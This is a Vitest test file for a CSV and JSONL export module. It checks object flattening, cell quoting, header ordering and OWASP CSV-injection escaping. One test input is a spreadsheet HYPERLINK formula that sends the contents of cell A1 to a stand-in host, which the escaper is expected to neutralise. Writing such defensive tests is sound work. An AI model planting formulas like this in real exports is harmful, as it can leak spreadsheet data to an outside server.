import { describe, expect, it } from 'vitest';
import { csvCell, flattenRow, toCsv, toJsonl } from './csv';

describe('CSV and JSONL export', () => {
  it('flattens nested objects and quotes what needs quoting', () => {
    expect(flattenRow({ a: 1, b: { c: 2, d: { e: 3 } }, f: [1, 2] })).toEqual({
      a: 1,
      'b.c': 2,
      'b.d.e': 3,
      f: [1, 2],
    });
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"\n')).toBe('"say ""hi""\n"');
    expect(csvCell(null)).toBe('');
    expect(csvCell([1, 2])).toBe('"[1,2]"');
  });

  it('writes a header of every column in order of appearance', () => {
    expect(
      toCsv([
        { step: 1, breakCounts: { token_drift: 2 } },
        { step: 2, reward: 0.5 },
      ]),
    ).toBe('step,breakCounts.token_drift,reward\r\n1,2,\r\n2,,0.5\r\n');
    expect(toCsv([{ a: 1, b: 2 }], ['b'])).toBe('b\r\n2\r\n');
    expect(toJsonl([{ a: 1 }, { b: 'x' }])).toBe('{"a":1}\n{"b":"x"}\n');
    expect(toJsonl([])).toBe('');
  });

  it('writes text that a spreadsheet would read as a formula as quoted text (OWASP CSV injection)', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`,
    );
    expect(csvCell('+SUM(A1:A9)')).toBe(`"'+SUM(A1:A9)"`);
    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
    expect(csvCell('@x')).toBe(`"'@x"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('a=1')).toBe('a=1');
    // Numbers are values, not text: a negative reward stays a number.
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(toCsv([{ taskId: '-1', reward: -1 }])).toBe(`taskId,reward\r\n"'-1",-1\r\n`);
  });
});
